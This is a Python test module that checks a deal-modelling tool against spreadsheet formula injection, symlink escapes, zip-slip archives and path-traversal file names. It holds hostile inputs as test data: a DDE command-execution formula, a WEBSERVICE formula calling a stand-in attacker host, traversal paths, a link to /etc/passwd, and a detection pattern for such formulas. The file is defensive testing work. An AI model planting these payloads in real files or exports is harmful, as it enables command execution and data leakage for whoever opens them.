"""Nothing in a deal runs, and nothing in it reaches beyond its folder."""

from __future__ import annotations

import csv
import io
import re
import tomllib
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

import deal_files as files
import stuckstep as ss
from stuckstep.cli import main
from stuckstep.deal import DealError, read, write
from stuckstep.studies.files import write_studies

pytestmark = pytest.mark.thorough

# What spreadsheets take for a formula, as names of a party, an account, a claim, a step, a phase and a scenario.
EVIL = {
    "staff": "=cmd|' /C calc'!A0",
    "chip_books": "+HYPERLINK(A1)",
    "opex": "-SUM(A1)",
    "onboarding": "-2+3",
    "su1": "=1+1",
    "power_late": '=WEBSERVICE("http://evil.example")',
}
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = files.copy(tmp_path_factory.mktemp("evil") / "deal")
    for file in folder.glob("*.csv"):
        rows = list(csv.reader(io.StringIO(file.read_text(encoding="utf-8"))))
        spoilt = [
            [rows[0][place] if row is rows[0] else renamed(text) for place, text in enumerate(row)] for row in rows
        ]
        stream = io.StringIO()
        csv.writer(stream).writerows([[f"'{one}" if one.startswith(FORMULA) else one for one in row] for row in spoilt])
        file.write_text(stream.getvalue(), encoding="utf-8")
    files.put(folder, "deal", "title", "value", "'=1+1")
    return folder


def renamed(text: str) -> str:
    """A cell with every name in it changed, alone, in a list or before a rank."""
    return ";".join(":".join(EVIL.get(name, name) for name in part.split(":")) for part in text.split(";"))


def is_number(text: str) -> bool:
    return re.fullmatch(r"-?[0-9.]+(e[+-]?[0-9]+)?", text) is not None


def check_csv(file: Path) -> None:
    with file.open(encoding="utf-8", newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA) and not is_number(cell)] == []


def check_book(file: Path, is_live: bool) -> None:
    """Text is text; what is a formula is one of the program's own."""
    with zipfile.ZipFile(file) as package:
        parts = {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}
    formulas = [one for text in parts.values() for one in re.findall(r"<f[^>]*>([^<]*)</f>", text)]
    assert bool(formulas) == is_live
    assert not [one for one in formulas if re.search(r"cmd\||HYPERLINK|WEBSERVICE|DDE", one)]
    assert not [name for name in parts if "externalLink" in name or "vbaProject" in name]
    named = [one for text in parts.values() for one in re.findall(r"<definedName[^>]*>([^<]*)</definedName>", text)]
    assert not [one for one in named if "cmd" in one or "evil" in one]
    book = openpyxl.load_workbook(file)
    texts = [
        cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value in (*EVIL.values(), "=1+1")
    ]
    assert texts
    assert {cell.data_type for cell in texts} == {"s"}


def test_no_name_becomes_a_formula_in_any_export(evil: Path, tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["run", str(evil), "--out", str(out)])
    assert (result.exit_code, result.stderr) == (0, "")
    check_csv(out / "payments.csv")
    check_book(out / "deal.xlsx", is_live=True)
    report = (out / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"""<(?!a )[^>]*(?:href|src)=["'](?:https?:)?//""", report)  # only links to the facts' pages
    assert not re.search(r"""href=["'](?!https://|#)""", report)
    for copy in ("copy", "copy.xlsx"):
        assert CliRunner().invoke(main, ["convert", str(evil), str(tmp_path / copy)]).exit_code == 0
        assert ss.read(tmp_path / copy) == ss.read(evil)
    for file in (tmp_path / "copy").glob("*.csv"):
        check_csv(file)
    check_book(tmp_path / "copy.xlsx", is_live=False)


def test_a_workbook_that_run_wrote_is_read_back_with_its_names(evil: Path, tmp_path: Path) -> None:
    result = CliRunner().invoke(main, ["export", str(evil), "--out", str(tmp_path / "live.xlsx")])
    assert result.exit_code == 0, result.stderr
    assert read(tmp_path / "live.xlsx").tables["parties"] == read(evil).tables["parties"]


@pytest.mark.parametrize("target", ["/etc/passwd", "../secret.csv"])
def test_a_file_that_is_a_link_out_of_the_folder_is_refused(tmp_path: Path, target: str) -> None:
    (tmp_path / "secret.csv").write_text("party,role\nsecret,secret\n")
    folder = files.copy(tmp_path / "deal")
    (folder / "parties.csv").unlink()
    (folder / "parties.csv").symlink_to(target)
    with pytest.raises(DealError) as caught:
        read(folder)
    assert [str(fault) for fault in caught.value.faults] == [
        "parties.csv: this is a link out of the deal's folder; files of the folder itself are allowed"
    ]


def test_a_deal_behind_a_link_of_the_users_own_is_read(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to(files.copy(tmp_path / "deal"))
    assert read(tmp_path / "link") == read(tmp_path / "deal")


@pytest.mark.parametrize("name", ["../evil.csv", "/tmp/evil.csv", "xl/../../evil.csv"])
def test_an_archive_is_never_unpacked_to_the_disk(tmp_path: Path, name: str) -> None:
    book = tmp_path / "inner" / "deal.xlsx"
    book.parent.mkdir()
    write(read(files.SUPERPOD), book)
    with zipfile.ZipFile(book, "a") as package:
        package.writestr(name, "evil")
    assert read(book).tables == read(files.SUPERPOD).tables
    assert [str(path.relative_to(tmp_path)) for path in tmp_path.rglob("*") if path.is_file()] == ["inner/deal.xlsx"]


def test_a_study_named_like_a_path_stays_in_its_folder(tmp_path: Path) -> None:
    dataset = ss.read(files.SUPERPOD).run(["base"])[["npv"]]
    for name in ("../../evil", "/etc/evil", "a/../b", ".."):
        for path in write_studies({name: dataset}, tmp_path / "inner"):
            assert path.resolve().parent == (tmp_path / "inner").resolve()
    assert [path.name for path in tmp_path.iterdir()] == ["inner"]


def test_nothing_is_written_over(tmp_path: Path) -> None:
    mine = tmp_path / "mine.xlsx"
    mine.write_text("mine")
    folder = files.copy(tmp_path / "deal")
    for arguments in (["new", str(mine)], ["convert", str(folder), str(mine)], ["new", str(folder)]):
        result = CliRunner().invoke(main, arguments)
        assert (result.exit_code, result.stderr.count("\n")) == (2, 1)
        assert "something is there already" in result.stderr
    assert mine.read_text() == "mine"
    assert read(folder) == read(files.SUPERPOD)


def test_every_dependency_has_a_range() -> None:
    """A next major version is tried first. What counts its versions by years has none."""
    project = tomllib.loads((Path(__file__).parents[1] / "pyproject.toml").read_text())["project"]
    needed = [*project["dependencies"], *(one for name in ("app", "studies", "fast", "cluster")
                                          for one in project["optional-dependencies"][name])]  # fmt: skip
    open_ended = {re.split("[<>=]", one)[0] for one in needed if "<" not in one}
    assert open_ended == {"xarray", "dask", "distributed"}
    assert all(">=" in one for one in needed)
